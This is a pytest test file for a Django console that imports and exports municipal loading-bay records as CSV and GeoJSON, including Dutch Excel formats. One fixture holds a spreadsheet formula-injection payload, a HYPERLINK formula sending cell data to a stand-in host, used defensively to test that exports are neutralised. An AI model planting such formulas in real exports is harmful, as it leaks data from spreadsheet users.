import csv
import io
import json
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from bookings.models import Booking
from console.bay_files import bays_to_csv, bays_to_geojson
from console.scoping import Scope
from console.services import bays_import
from places.models import LoadingBay
from tests.factories import BayFactory

pytestmark = pytest.mark.django_db

HEADER = ("code,zone,street,house_number,latitude,longitude,kerb_length_m,max_vehicles,"
          "max_vehicle_length_m,is_active\n")


def gouda_scope(gouda):
    return Scope(municipality=gouda.municipality)


def test_a_good_csv_creates_and_updates_bays(gouda):
    text = HEADER + (
        "GO-001,centrum-gouda,Markt,12,52.0118,4.7095,24.00,2,10.00,true\n"
        "GO-002,centrum-gouda,Kleiweg,,52.0135,4.706,15.5,1,8,false\n"
    )
    result = bays_import(text=text, file_format="csv", scope=gouda_scope(gouda))
    assert result.ok and (result.created, result.updated) == (1, 1)
    gouda.bay.refresh_from_db()
    assert (gouda.bay.house_number, gouda.bay.max_vehicles) == ("12", 2)
    new = LoadingBay.objects.get(code="GO-002")
    assert new.zone == gouda.zone and new.is_active is False and str(new.kerb_length_m) == "15.50"


def test_one_bad_row_refuses_the_whole_file_and_names_every_bad_row(gouda, leiden):
    before = list(LoadingBay.objects.values_list("code", "street", "kerb_length_m"))
    text = HEADER + (
        "GO-005,centrum-gouda,Markt,,52.0118,4.7095,24,2,10,true\n"       # good
        "GO-006,centrum-leiden,Markt,,52.0118,4.7095,24,2,10,true\n"      # not Gouda's zone
        "GO-007,centrum-gouda,Markt,,95,4.7095,0,2,10,true\n"             # latitude, kerb
        "LE-001,centrum-gouda,Breestraat,,52.15,4.49,20,1,10,true\n"      # Leiden's bay
        "GO-005,centrum-gouda,Markt,,52.0118,4.7095,24,2,10,true\n"       # twice
    )
    result = bays_import(text=text, file_format="csv", scope=gouda_scope(gouda))
    assert not result.ok
    # numbered as in the spreadsheet: the header is row 1
    assert [number for number, _problems in result.errors] == [3, 4, 5, 6]
    assert any("latitude" in p for p in dict(result.errors)[4])
    assert any("kerb_length_m" in p for p in dict(result.errors)[4])
    assert list(LoadingBay.objects.values_list("code", "street", "kerb_length_m")) == before


def test_a_file_missing_columns_is_refused(gouda):
    result = bays_import(text="code,street\nX,Y\n", file_format="csv", scope=gouda_scope(gouda))
    assert not result.ok and result.errors[0][0] == 0


def test_export_and_import_round_trip_in_both_formats(gouda):
    BayFactory(zone=gouda.zone, code="GO-002", house_number="3a", is_active=False,
               kerb_length_m=Decimal("12.35"))
    bays = LoadingBay.objects.filter(zone=gouda.zone).select_related("zone")
    before = list(bays.values())
    assert len(before) == 2
    for file_format, text in [("csv", bays_to_csv(bays)),
                              ("geojson", json.dumps(bays_to_geojson(bays)))]:
        LoadingBay.history.all().delete()
        Booking.objects.filter(bay__zone=gouda.zone).delete()
        bays.delete()
        result = bays_import(text=text, file_format=file_format, scope=gouda_scope(gouda))
        assert result.ok and result.created == len(before)
        after = list(LoadingBay.objects.filter(zone=gouda.zone).values())
        assert [{**row, "id": None} for row in after] == [{**row, "id": None} for row in before]


def test_the_export_holds_only_the_admins_municipality(client, gouda, leiden):
    client.force_login(gouda.admin)
    text = client.get(reverse("console:bays_export", args=["csv"])).content.decode()
    assert "GO-001" in text and "LE-001" not in text
    geojson = client.get(reverse("console:bays_export", args=["geojson"])).json()
    assert [f["id"] for f in geojson["features"]] == ["GO-001"]
    assert geojson["features"][0]["geometry"]["coordinates"] == [4.492, 52.158]


def test_the_import_page_lists_the_bad_rows(client, gouda):
    client.force_login(gouda.admin)
    upload = SimpleUploadedFile("bays.csv", (HEADER + "GO-009,nowhere,Markt,,52,4.7,10,1,8,true\n")
                                .encode())
    page = client.post(reverse("console:bays_import"), {"file": upload, "file_format": "csv"})
    assert page.status_code == 200 and not page.context["result"].ok
    assert "nowhere" in page.content.decode()
    assert not LoadingBay.objects.filter(code="GO-009").exists()


FORMULAS = {
    "street": '=HYPERLINK("https://evil.example/?"&A1,"Markt")',
    "house_number": "+31",
    "code": "@GO-9",
}


def test_the_csv_export_quotes_formulas_and_reads_back_unchanged(gouda):
    BayFactory(zone=gouda.zone, **FORMULAS)
    bays = LoadingBay.objects.filter(zone=gouda.zone).select_related("zone")
    before = list(bays.values())
    text = bays_to_csv(bays)
    rows = {row["code"]: row for row in csv.DictReader(io.StringIO(text))}
    exported = rows["'@GO-9"]
    assert exported["street"] == "'" + FORMULAS["street"]
    assert exported["house_number"] == "'+31"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows.values()
                   for cell in row.values())

    LoadingBay.history.all().delete()
    Booking.objects.filter(bay__zone=gouda.zone).delete()
    bays.delete()
    result = bays_import(text=text, file_format="csv", scope=gouda_scope(gouda))
    assert result.ok, result.errors
    after = list(LoadingBay.objects.filter(zone=gouda.zone).values())
    assert [{**row, "id": None} for row in after] == [{**row, "id": None} for row in before]


def test_the_console_csv_download_quotes_formulas(client, gouda):
    BayFactory(zone=gouda.zone, **FORMULAS)
    client.force_login(gouda.admin)
    text = client.get(reverse("console:bays_export", args=["csv"])).content.decode()
    assert "'@GO-9" in text and '"\'=HYPERLINK(' in text
# --- Files as spreadsheets save them -----------------------------------------------------------

DUTCH_HEADER = HEADER.strip().replace(",", ";")
DUTCH_ROWS = ["GO-001;centrum-gouda;Markt;12;52,0118;4,7095;24,5;2;10;ja",
              "GO-002;centrum-gouda;Café-straat;;52,0135;4,706;15,25;1;8;nee"]


def dutch_excel_csv(newline: str = "\r\n", encoding: str = "utf-8-sig") -> bytes:
    """What Excel with Dutch settings saves as "CSV (semicolon delimited)"."""
    return newline.join([DUTCH_HEADER, *DUTCH_ROWS, ""]).encode(encoding)


def dutch_client(client, user):
    client.force_login(user)
    client.cookies["django_language"] = "nl"
    return client


def upload(client, content: bytes, name="baaien.csv", file_format="csv"):
    return client.post(reverse("console:bays_import"),
                       {"file": SimpleUploadedFile(name, content), "file_format": file_format})


@pytest.mark.parametrize("newline", ["\r\n", "\r", "\n"])
@pytest.mark.parametrize("encoding", ["utf-8-sig", "cp1252"])
def test_a_dutch_excel_csv_is_imported_with_any_line_ending(gouda, newline, encoding):
    result = bays_import(text=dutch_excel_csv(newline, encoding), file_format="csv",
                         scope=gouda_scope(gouda))
    assert result.ok, result.errors
    assert (result.created, result.updated) == (1, 1)
    new = LoadingBay.objects.get(code="GO-002")
    assert (new.street, new.latitude, new.kerb_length_m, new.is_active) == (
        "Café-straat", 52.0135, Decimal("15.25"), False)
    gouda.bay.refresh_from_db()
    assert (gouda.bay.longitude, gouda.bay.kerb_length_m) == (4.7095, Decimal("24.5"))


def test_a_cr_only_file_through_the_page_is_imported(client, gouda):
    response = upload(dutch_client(client, gouda.admin), dutch_excel_csv("\r"))
    assert response.status_code == 302
    assert LoadingBay.objects.filter(code="GO-002").exists()


@pytest.mark.parametrize("content", [
    b"PK\x03\x04\x14\x00\x06\x00" + bytes(range(256)),   # an .xlsx workbook
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(64),  # a picture
    b"\x81\x8d\x8f\x90 not text",                          # bytes no encoding can read
])
def test_a_file_that_is_not_csv_is_refused_in_dutch_and_changes_nothing(client, gouda, content):
    before = list(LoadingBay.objects.values_list("code", "street"))
    response = upload(dutch_client(client, gouda.admin), content)
    assert response.status_code == 200
    page = response.content.decode()
    assert "Er is niets geïmporteerd" in page
    refusal = response.context["result"].errors
    assert len(refusal) == 1 and refusal[0][0] == 0
    assert any(word in refusal[0][1][0] for word in ("geen CSV", "niet te lezen"))
    assert list(LoadingBay.objects.values_list("code", "street")) == before


def test_bad_rows_are_named_by_their_spreadsheet_row_in_dutch(client, gouda):
    rows = [DUTCH_HEADER, DUTCH_ROWS[0], "GO-003;centrum-gouda;Markt;;veel;4,7;10;1;8;ja"]
    response = upload(dutch_client(client, gouda.admin), "\r\n".join(rows).encode())
    assert response.status_code == 200
    assert response.context["result"].errors == [(3, ["latitude: Voer een getal in."])]
    assert not LoadingBay.objects.filter(code="GO-003").exists()


def test_missing_columns_are_named_in_dutch(client, gouda):
    response = upload(dutch_client(client, gouda.admin), b"code;straat\r\nGO-9;Markt\r\n")
    problems = response.context["result"].errors[0][1]
    assert problems[0].startswith("De eerste rij moet de kolommen noemen")
    assert "latitude" in problems[0]


def test_an_apostrophe_that_protects_a_formula_is_taken_off(gouda):
    text = HEADER + "GO-004,centrum-gouda,'=Markt,'-12,52.0118,4.7095,24,2,10,true\n"
    result = bays_import(text=text, file_format="csv", scope=gouda_scope(gouda))
    assert result.ok, result.errors
    bay = LoadingBay.objects.get(code="GO-004")
    assert (bay.street, bay.house_number) == ("=Markt", "-12")


def test_an_apostrophe_before_ordinary_text_is_kept(gouda):
    text = HEADER + "GO-004,centrum-gouda,'s-Gravensteeg,,52.0118,4.7095,24,2,10,true\n"
    assert bays_import(text=text, file_format="csv", scope=gouda_scope(gouda)).ok
    assert LoadingBay.objects.get(code="GO-004").street == "'s-Gravensteeg"


@pytest.mark.parametrize("document", ['{"type": "FeatureCollection", "features": [1, "x"]}',
                                      '{"type": "FeatureCollection", "features": 3}', "[1,"])
def test_a_malformed_geojson_file_is_refused_without_an_error_page(client, gouda, document):
    response = upload(dutch_client(client, gouda.admin), document.encode(), "b.geojson",
                      "geojson")
    assert response.status_code == 200
    assert not response.context["result"].ok
